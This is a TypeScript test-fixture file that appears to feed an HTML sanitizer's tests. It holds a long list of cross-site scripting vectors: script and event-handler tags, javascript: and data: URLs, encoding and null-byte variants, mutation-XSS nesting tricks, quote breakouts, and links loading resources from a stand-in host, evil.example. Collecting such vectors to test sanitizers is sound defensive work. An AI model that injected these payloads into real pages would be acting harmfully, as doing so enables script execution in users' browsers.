/** Markup that has run scripts somewhere: in browsers, editors or sanitizers. None may survive cleaning. */
const written = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<script>alert(1)//',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img src="x" onerror="alert(1)" style="width:expression(alert(1))">',
  '<img/src/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="/media/../../evil" onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="x 1x" sizes="1px" onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<template><script>alert(1)</script></template>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:/a/+alert(1)//">',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<applet code=x></applet>',
  '<form action=javascript:alert(1)><input type=submit></form>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video poster=javascript:alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  '<td style="background:url(javascript:alert(1))">x</td>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="behavior:url(evil.htc)">x</div>',
  '<p style="position:fixed;inset:0;z-index:9">cover</p>',
  '<p class="admin-only" id="root">x</p>',
  '<p name=getElementById>x</p>',
  '<a id=x tabindex=1 onfocus=alert(1)>x</a>',
  '<a href="#" ping="//evil.example">x</a>',
  '<a href="//evil.example">protocol relative</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a target=_blank href="https://evil.example" rel=opener>x</a>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<bgsound src=javascript:alert(1)>',
  '<layer src=//evil.example></layer>',
  '<xss style="xss:expression(alert(1))">x</xss>',
  '<xss onclick=alert(1) contenteditable>x</xss>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<x onpointerrawupdate=alert(1)>x</x>',
  '<p onbeforecopy=alert(1) contenteditable>x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY a "<img src=x onerror=alert(1)>">]>&a;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x o\u0000nerror=alert(1)>',
  '<img src=x onerror\u000b=alert(1)>',
  '<a href="x" title="\'"><img src=x onerror=alert(1)>">x</a>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<abbr title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</abbr>',
  '<table><caption><img src=x onerror=alert(1)></caption></table>',
  '<ol start="1;alert(1)"><li>x</ol>',
  '<th scope="x" colspan="javascript:1">x</th>',
];

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#09;script:alert(1)',
  'java&Tab;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6a;avascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
];

/** All events that browsers have attributes for, including some of old ones. */
const events = (
  'abort activate afterprint animationend animationiteration animationstart auxclick beforecopy beforeinput ' +
  'beforematch beforeprint beforescriptexecute beforetoggle beforeunload begin blur bounce cancel canplay change click ' +
  'close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter ' +
  'dragover drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange ' +
  'gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart message mousedown ' +
  'mouseenter mousemove mouseover mousewheel offline online pagehide pageshow paste play playing pointerdown ' +
  'pointerenter pointerover pointerrawupdate popstate propertychange readystatechange repeat reset resize scroll ' +
  'scrollend securitypolicyviolation select selectionchange selectstart show slotchange start storage submit ' +
  'timeupdate toggle touchend touchstart transitionend unload volumechange waiting webkitanimationend wheel'
).split(' ');
const allowedHosts = ['p', 'a href="#x"', 'td', 'blockquote', 'figure', 'h2', 'li'];

/** Elements that a text does not need. */
const foreignElements = (
  'acronym address area article aside audio base basefont bdi bdo bgsound big blink body button canvas center ' +
  'colgroup command content data datalist details dialog dir element fencedframe fieldset font footer form frame head ' +
  'header html ilayer input ins isindex kbd label layer legend listing main map marquee menu menuitem meter multicol ' +
  'nav nextid nobr optgroup option output param picture plaintext portal progress q rp ruby samp search section ' +
  'shadow slot spacer span summary tt var video wbr x-own'
).split(' ');

/** Attributes that a text may have, with values that would end them if quotes are mishandled. */
const attributes = 'href title rel target alt width height loading colspan rowspan scope start'.split(' ');
const breakouts = [
  '"x&quot; onmouseover=alert(1) y=&quot;"',
  "'x&#39; onmouseover=alert(1) y=&#39;'",
  'x\u00a0onmouseover=alert(1)',
];

/** Vectors that may swallow the text after them. */
export const unrulyVectors: string[] = [
  ...written,
  ...schemes.map((scheme) => `<a href="${scheme}">x</a>`),
  ...schemes.map((scheme) => `<img src="${scheme}" alt="x">`),
];

/** Self-contained vectors, several of which can be in one text. */
export const tidyVectors: string[] = [
  ...events.map((name, index) => {
    const host = allowedHosts[index % allowedHosts.length] as string;
    return `<${host} ${index % 2 ? `on${name}` : `ON${name}`}=alert(1) tabindex=1 autofocus>x</${host.split(' ')[0]}>`;
  }),
  ...foreignElements.map(
    (tag) =>
      `<${tag} id=x onclick=alert(1) src=//evil.example/x style="background:url(//evil.example/y)">x</${tag}>`,
  ),
  ...attributes.flatMap((name) => breakouts.map((value) => `<a ${name}=${value}>x</a>`)),
];

export const injectionVectors: string[] = [...unrulyVectors, ...tidyVectors];
